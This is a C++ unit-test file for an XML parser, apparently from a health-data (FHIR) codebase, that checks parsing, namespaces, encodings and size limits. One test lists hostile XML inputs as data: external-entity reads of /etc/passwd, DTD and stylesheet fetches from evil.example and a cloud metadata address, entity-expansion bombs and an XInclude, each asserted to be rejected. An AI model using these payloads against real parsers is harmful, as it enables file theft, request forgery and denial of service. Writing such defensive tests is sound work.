#include "codec/xml.h"

#include <gtest/gtest.h>

#include "base/limits.h"

namespace mitral::codec {
namespace {

Result<XmlDocument> parse(std::string_view text) { return XmlDocument::parse(text); }
ErrorCode code_of(std::string_view text) {
  const auto out = parse(text);
  return out ? ErrorCode::internal : out.error().code;
}

TEST(Xml, ElementsAttributesAndTexts) {
  const auto out =
      parse("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<a x=\"1\" y='&lt;2'>t<!-- c -->u<b/><![CDATA[<v>]]></a>");
  ASSERT_TRUE(out) << out.error().detail;
  const auto& root = out->root();
  EXPECT_EQ(root.name, "a");
  EXPECT_EQ(*root.attribute("x"), "1");
  EXPECT_EQ(*root.attribute("y"), "<2");
  EXPECT_EQ(root.attribute("z"), nullptr);
  ASSERT_EQ(root.children.size(), 3U);
  EXPECT_EQ(root.children[0].text, "tu") << "a comment is as if it were not there";
  EXPECT_EQ(root.children[1].name, "b");
  EXPECT_EQ(root.children[2].text, "<v>");
  EXPECT_TRUE(parse("\xEF\xBB\xBF<a/>")) << "the mark of UTF-8 changes nothing";
}

TEST(Xml, NamespacesAreResolved) {
  const auto out = parse(R"(<p:a xmlns:p="urn:1" xmlns="urn:2" p:k="v"><b xmlns=""/><c/><xml xml:lang="de"/></p:a>)");
  ASSERT_TRUE(out);
  const auto& root = out->root();
  EXPECT_EQ(root.space, "urn:1");
  EXPECT_EQ(root.name, "a");
  EXPECT_EQ(root.attribute("k"), nullptr) << "an attribute of a namespace is another one";
  EXPECT_EQ(root.attributes[0].space, "urn:1");
  ASSERT_EQ(root.bindings.size(), 2U);
  EXPECT_EQ(root.children[0].space, "");
  EXPECT_EQ(root.children[1].space, "urn:2");
  EXPECT_EQ(root.children[2].attributes[0].space, kXmlSpace);
}

TEST(Xml, DocumentsCanBeMoved) {
  auto out = parse(R"(<a xmlns="u:1"><b/></a>)");
  ASSERT_TRUE(out);
  const XmlDocument moved = std::move(*out);
  EXPECT_EQ(moved.root().children[0].space, "u:1");
}

TEST(Xml, S18_NothingIsFetchedOrExpanded) {
  for (const auto* const attack : {
           R"(<!DOCTYPE a><a/>)",
           R"(<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>)",
           R"(<!DOCTYPE a PUBLIC "-//X" "http://169.254.169.254/x.dtd"><a/>)",
           R"(<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>)",
           R"(<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><a/>)",
           R"(<!DOCTYPE a [<!ENTITY x "lol"><!ENTITY y "&x;&x;&x;"><!ENTITY z "&y;&y;&y;">]><a>&z;</a>)",
           R"(<!DOCTYPE a [<!ATTLIST a x CDATA "default">]><a/>)",
           R"(<a>&unknown;</a>)",
           R"(<a>&nbsp;</a>)",
           R"(<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>)",
           R"(<a><?php system("id") ?></a>)",
           R"(<a xmlns:xi="http://www.w3.org/2001/XInclude"/><xi:include href="file:///etc/passwd"/>)",
       }) {
    EXPECT_EQ(code_of(attack), ErrorCode::malformed) << attack;
  }
}

TEST(Xml, S14_OnlyUtf8OnlyOneMeaning) {
  const std::string utf16("\xFF\xFE<\0a\0/\0>\0", 10);
  const std::string utf16_be("\xFE\xFF\0<\0a\0/\0>", 10);
  for (const auto& text : {utf16, utf16_be, std::string(R"(<?xml version="1.0" encoding="UTF-7"?><a>+ADw-b/+AD4-</a>)"),
                           std::string(R"(<?xml version="1.0" encoding="UTF-16"?><a/>)"),
                           std::string(R"(<?xml version="1.0" encoding="ISO-8859-1"?><a/>)"),
                           std::string(R"(<?xml version="1.1"?><a/>)"), std::string("<a>\xC0\xBC</a>"),
                           std::string("<a>\xED\xA0\x80</a>"), std::string("<a>\xFF</a>"), std::string("<a>\0</a>", 8),
                           std::string("<a>\x01</a>"), std::string("<a>&#0;</a>"), std::string("<a>&#xD800;</a>")}) {
    EXPECT_EQ(code_of(text), ErrorCode::malformed) << text;
  }
}

TEST(Xml, WhatIsNotWellFormedIsRefused) {
  for (const auto* const text : {"",
                                 " ",
                                 "a",
                                 "<a>",
                                 "<a></b>",
                                 "<a/><b/>",
                                 "<a/>x",
                                 "x<a/>",
                                 "<a x='1' x='2'/>",
                                 "<p:a/>",
                                 "<a b/>",
                                 "<a b=c/>",
                                 "<a x='<'/>",
                                 " <?xml version='1.0'?><a/>",
                                 "<a xmlns:p='u' xmlns:q='u' p:x='1' q:x='2'/>",
                                 "<a xmlns:p=''/>",
                                 "<a xmlns:xml='urn:other'/>",
                                 "<a xmlns:xmlns='urn:x'/>",
                                 "<a:b:c xmlns:a='u'/>",
                                 "<!-- -- --><a/>",
                                 "<a>]]></a>"}) {
    EXPECT_EQ(code_of(text), ErrorCode::malformed) << text;
  }
}

TEST(Xml, ANamespaceCannotPretendToBeAName) {
  // The parser hands out both as one text with a line feed between.
  EXPECT_FALSE(parse("<a xmlns='u&#10;b'/>"));
  EXPECT_FALSE(parse("<p:a xmlns:p='http://hl7.org/fhir&#xA;Patient'/>"));
}

TEST(Xml, S14_SizesAreBounded) {
  std::string deep;
  for (std::size_t i = 0; i <= limits::kXmlDepthMax; ++i) deep += "<a>";
  EXPECT_EQ(code_of(deep), ErrorCode::too_large);
  std::string many = "<a ";
  for (std::size_t i = 0; i <= limits::kXmlAttributesMax; ++i) many += "a" + std::to_string(i) + "='' ";
  EXPECT_EQ(code_of(many + "/>"), ErrorCode::too_large);
  std::string spaces = "<a ";
  for (std::size_t i = 0; i <= limits::kXmlAttributesMax; ++i) {
    spaces += "xmlns:a" + std::to_string(i) + "='u:" + std::to_string(i) + "' ";
  }
  EXPECT_EQ(code_of(spaces + "/>"), ErrorCode::too_large);
  std::string nodes = "<a>";
  for (std::size_t i = 0; i <= limits::kXmlNodesMax; ++i) nodes += "<b/>";
  EXPECT_EQ(code_of(nodes + "</a>"), ErrorCode::too_large);
  EXPECT_EQ(code_of("<a>" + std::string(limits::kFhirResourceMax, 'x') + "</a>"), ErrorCode::too_large);
}

TEST(Xml, S14_NamespacesDoNotMultiply) {
  // Each attribute of this one tag would hold a megabyte of namespace: eight gigabytes from two megabytes.
  std::string tag = "<a xmlns:p='u:" + std::string(1024 * 1024, 'x') + "'";
  for (int i = 0; i < 8000; ++i) tag += " p:a" + std::to_string(i) + "=''";
  EXPECT_EQ(code_of(tag + "/>"), ErrorCode::too_large);
  EXPECT_EQ(code_of("<a xmlns='u:" + std::string(limits::kFhirPathMax, 'x') + "'/>"), ErrorCode::too_large);
  EXPECT_TRUE(parse("<a>" + std::string(limits::kFhirResourceMax - 100, 'x') + "</a>"));
  EXPECT_TRUE(parse("<a x='" + std::string(limits::kFhirResourceMax - 100, 'x') + "'/>")) << "an attachment";
}

TEST(Xml, TextsAreWrittenSoThatTheyReadTheSame) {
  const std::string raw = "a<b>&\"'\t\n\rc";
  std::string text = "<a x=\"";
  append_xml_attribute(text, raw);
  text += "\">";
  append_xml_text(text, raw);
  const auto out = parse(text + "</a>");
  ASSERT_TRUE(out) << text;
  EXPECT_EQ(*out->root().attribute("x"), raw);
  EXPECT_EQ(out->root().children[0].text, raw);
}

}  // namespace
}  // namespace mitral::codec
